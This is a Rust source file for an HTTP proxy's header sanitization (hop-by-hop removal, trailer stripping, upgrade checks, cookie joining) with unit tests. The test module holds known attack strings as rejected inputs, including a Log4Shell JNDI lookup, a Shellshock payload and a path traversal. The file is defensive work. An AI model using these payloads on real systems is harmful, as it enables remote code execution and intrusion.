//! Header rules of a proxy: what is removed before inspection, what is added for the upstream, what is removed from
//! the answer.
//!
//! Not here: refusing requests (`guard`) and what is said about the client (`forwarding`). Everything is removed *before*
//! inspection, so that what was inspected is what the upstream gets; afterwards only headers of our own are added.

use http::header::{self, HeaderName, HeaderValue};
use http::{HeaderMap, Version};

use super::forwarding;
use crate::listen::client::Peer;

/// The verdict of this request, for the upstream. Clients cannot set it.
pub const VERDICT: HeaderName = HeaderName::from_static("x-weir-verdict");
/// The score of this request, for the upstream. Clients cannot set it.
pub const SCORE: HeaderName = HeaderName::from_static("x-weir-score");
/// The subject of the client's certificate, for the upstream. Clients cannot set it, on any listener.
pub const CLIENT_SUBJECT: HeaderName = HeaderName::from_static("x-weir-client-subject");
/// Names one request to client, upstream and operator.
pub const REQUEST_ID: HeaderName = HeaderName::from_static("x-request-id");

const KEEP_ALIVE: HeaderName = HeaderName::from_static("keep-alive");
const PROXY_CONNECTION: HeaderName = HeaderName::from_static("proxy-connection");

/// RFC 9110, 7.6.1, and those that older peers send. `Trailer` is none of them: it announces what follows the body, and
/// trailers travel on.
static HOP_BY_HOP: [HeaderName; 8] = [
    header::CONNECTION,
    KEEP_ALIVE,
    PROXY_CONNECTION,
    header::TE,
    header::TRANSFER_ENCODING,
    header::UPGRADE,
    header::PROXY_AUTHENTICATE,
    header::PROXY_AUTHORIZATION,
];

/// Never removed because `Connection` lists them: a client could otherwise strip what identifies or frames a request
/// after another proxy has relied on it.
static END_TO_END: [HeaderName; 6] = [
    header::HOST,
    header::CONTENT_LENGTH,
    header::CONTENT_TYPE,
    header::CONTENT_ENCODING,
    header::COOKIE,
    header::AUTHORIZATION,
];

/// Bytes of a protocol's name: the longest registered one has 16.
const MAX_PROTOCOL: usize = 32;

/// The protocol that a client asks to switch to, when it may.
pub type Upgrade = HeaderValue;

/// Removes what must not travel on, and returns the upgrade that the client asks for. Call before inspection.
pub fn sanitize_request(headers: &mut HeaderMap, version: Version, trust: Peer) -> Option<Upgrade> {
    let upgrade = wanted_upgrade(headers, version);
    let trailers = takes_trailers(headers);
    remove_hop_by_hop(headers);
    if trailers {
        // What the client takes, we take for it. Nothing else that `TE` can say holds beyond one connection.
        headers.insert(header::TE, HeaderValue::from_static("trailers"));
    }
    headers.remove(header::EXPECT);
    forwarding::remove_claims(headers, trust);
    if version == Version::HTTP_2 {
        join_cookies(headers);
    }
    upgrade
}

/// Removes from request trailers what identifies, frames or routes a request: an origin that merges trailers into
/// headers would otherwise take it from a client after the head has been judged (RFC 9110, 6.5.1).
pub fn sanitize_trailers(trailers: &mut HeaderMap) {
    remove_hop_by_hop(trailers);
    forwarding::remove_claims(trailers, Peer::Untrusted);
    for name in &END_TO_END {
        trailers.remove(name);
    }
    trailers.remove(header::EXPECT);
    trailers.remove(header::TRAILER);
}

fn takes_trailers(headers: &HeaderMap) -> bool {
    headers
        .get_all(header::TE)
        .into_iter()
        .flat_map(|line| line.as_bytes().split(|byte| *byte == b','))
        .any(|coding| coding.trim_ascii().eq_ignore_ascii_case(b"trailers"))
}

/// HTTP/1.1 and one protocol only. Never another HTTP or TLS: a tunnel of requests would pass uninspected.
fn wanted_upgrade(headers: &HeaderMap, version: Version) -> Option<Upgrade> {
    if version != Version::HTTP_11 || !lists(headers, "upgrade") {
        return None;
    }
    let mut values = headers.get_all(header::UPGRADE).into_iter();
    let (value, None) = (values.next()?, values.next()) else {
        return None;
    };
    let name = value.to_str().ok()?.to_ascii_lowercase();
    let carries_http = ["h2", "http", "tls"]
        .iter()
        .any(|prefix| name.starts_with(prefix));
    (!carries_http && is_protocol(&name)).then(|| value.clone())
}

/// A name with an optional version, such as `websocket` or `foo/1.1`. The value goes to the upstream without having
/// been inspected, so it must not be able to say anything else.
fn is_protocol(name: &str) -> bool {
    name.len() <= MAX_PROTOCOL
        && name.starts_with(|first: char| first.is_ascii_alphabetic())
        && name
            .bytes()
            .all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b'.' | b'/'))
}

fn lists(headers: &HeaderMap, token: &str) -> bool {
    connection_tokens(headers).any(|listed| listed.eq_ignore_ascii_case(token))
}

fn connection_tokens(headers: &HeaderMap) -> impl Iterator<Item = &str> {
    headers
        .get_all(header::CONNECTION)
        .into_iter()
        .filter_map(|line| line.to_str().ok())
        .flat_map(|line| line.split(','))
        .map(str::trim)
}

fn remove_hop_by_hop(headers: &mut HeaderMap) {
    if headers.contains_key(header::CONNECTION) {
        let listed: Vec<HeaderName> = connection_tokens(headers)
            .filter_map(|token| HeaderName::from_bytes(token.as_bytes()).ok())
            .filter(|name| !END_TO_END.contains(name) && !forwarding::is_claim(name.as_str()))
            .collect();
        for name in listed {
            headers.remove(name);
        }
    }
    // Most have none: to look at each name once is cheaper than to look for each of these.
    if headers.keys().any(|name| HOP_BY_HOP.contains(name)) {
        for name in &HOP_BY_HOP {
            headers.remove(name);
        }
    }
}

/// HTTP/2 splits cookies for compression; HTTP/1.1 knows one line (RFC 9113, 8.2.3).
fn join_cookies(headers: &mut HeaderMap) {
    let mut crumbs = headers.get_all(header::COOKIE).into_iter();
    let (Some(first), Some(second)) = (crumbs.next(), crumbs.next()) else {
        return;
    };
    let mut joined = first.as_bytes().to_vec();
    for crumb in std::iter::once(second).chain(crumbs) {
        joined.extend_from_slice(b"; ");
        joined.extend_from_slice(crumb.as_bytes());
    }
    // Crumbs were valid values and so is the separator.
    if let Ok(value) = HeaderValue::from_bytes(&joined) {
        headers.insert(header::COOKIE, value);
    }
}

/// Whether the client came over TLS.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Scheme {
    /// Cleartext.
    Http,
    /// TLS.
    Https,
}

impl Scheme {
    pub(super) const fn name(self) -> &'static str {
        match self {
            Self::Http => "http",
            Self::Https => "https",
        }
    }
}

pub(super) fn via(version: Version) -> HeaderValue {
    HeaderValue::from_static(match version {
        Version::HTTP_10 => "1.0 weir",
        Version::HTTP_2 => "2 weir",
        _ => "1.1 weir",
    })
}

/// Says in `Connection` that `TE` is for the next hop.
pub fn stamp_te(headers: &mut HeaderMap) {
    if headers.contains_key(header::TE) {
        headers.insert(header::CONNECTION, HeaderValue::from_static("te"));
    }
}

/// Asks the upstream for the switch that the client wants. What follows has no trailers.
pub fn stamp_upgrade(headers: &mut HeaderMap, upgrade: Upgrade) {
    headers.remove(header::TE);
    headers.insert(header::CONNECTION, HeaderValue::from_static("upgrade"));
    headers.insert(header::UPGRADE, upgrade);
}

/// Cleans an upstream's answer. `Date`, `Server` and everything end-to-end stay as they are.
pub fn sanitize_response(headers: &mut HeaderMap, version: Version) {
    remove_hop_by_hop(headers);
    headers.append(header::VIA, via(version));
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)]

    use super::*;

    fn map(pairs: &[(&str, &str)]) -> HeaderMap {
        let mut headers = HeaderMap::new();
        for (name, value) in pairs {
            headers.append(
                HeaderName::from_bytes(name.as_bytes()).unwrap(),
                HeaderValue::from_str(value).unwrap(),
            );
        }
        headers
    }

    #[test]
    fn hop_by_hop_and_listed_headers_go_but_not_what_frames_a_request() {
        let mut headers = map(&[
            ("connection", "close, X-Secret-Hop, content-type, Host"),
            ("connection", "x-other"),
            ("x-secret-hop", "1"),
            ("x-other", "1"),
            ("te", "gzip;q=0.5"),
            ("keep-alive", "timeout=5"),
            ("expect", "100-continue"),
            ("host", "a"),
            ("content-type", "text/plain"),
        ]);
        assert_eq!(
            sanitize_request(&mut headers, Version::HTTP_11, Peer::Untrusted),
            None
        );
        let mut left: Vec<_> = headers.keys().map(HeaderName::as_str).collect();
        left.sort_unstable();
        assert_eq!(left, ["content-type", "host"]);
    }

    #[test]
    fn trailers_say_nothing_about_the_request_itself() {
        let mut trailers = map(&[
            ("x-checksum", "abc"),
            ("grpc-status", "0"),
            ("content-length", "0"),
            ("host", "evil"),
            ("authorization", "Bearer x"),
            ("x-weir-verdict", "pass"),
            ("x-forwarded-for", "1.1.1.1"),
            ("transfer-encoding", "chunked"),
        ]);
        sanitize_trailers(&mut trailers);
        let mut left: Vec<_> = trailers.keys().map(HeaderName::as_str).collect();
        left.sort_unstable();
        assert_eq!(left, ["grpc-status", "x-checksum"]);
    }

    #[test]
    fn of_te_only_trailers_travel_on() {
        for (sent, passed) in [
            ("gzip, Trailers", Some("trailers")),
            ("trailers", Some("trailers")),
            ("gzip;q=0.5", None),
            ("xtrailers", None),
        ] {
            let mut headers = map(&[("te", sent), ("connection", "te")]);
            sanitize_request(&mut headers, Version::HTTP_11, Peer::Untrusted);
            let te = headers.get(header::TE).map(|te| te.to_str().unwrap());
            assert_eq!(te, passed, "{sent}");
        }
    }

    #[test]
    fn only_an_honest_upgrade_is_passed() {
        let wanted = |connection: &str, upgrade: &str, version| {
            let mut headers = map(&[("connection", connection), ("upgrade", upgrade)]);
            sanitize_request(&mut headers, version, Peer::Untrusted).is_some()
        };
        assert!(wanted("keep-alive, Upgrade", "websocket", Version::HTTP_11));
        assert!(!wanted("keep-alive", "websocket", Version::HTTP_11));
        assert!(!wanted("upgrade", "websocket", Version::HTTP_10));
        assert!(!wanted("upgrade", "h2c", Version::HTTP_11));
        assert!(!wanted("upgrade", "TLS/1.0, HTTP/1.1", Version::HTTP_11));
        assert!(!wanted("upgrade", "websocket, h2c", Version::HTTP_11));
        // It would pass uninspected.
        for payload in ["${jndi:ldap://evil/a}", "() { :; }; id", "../../x", ""] {
            assert!(!wanted("upgrade", payload, Version::HTTP_11), "{payload}");
        }
    }

    #[test]
    fn cookie_crumbs_become_one_line() {
        let mut headers = map(&[("cookie", "a=1"), ("cookie", "b=2"), ("cookie", "c=3")]);
        sanitize_request(&mut headers, Version::HTTP_2, Peer::Untrusted);
        assert_eq!(
            headers.get_all("cookie").iter().collect::<Vec<_>>(),
            ["a=1; b=2; c=3"]
        );
    }
}
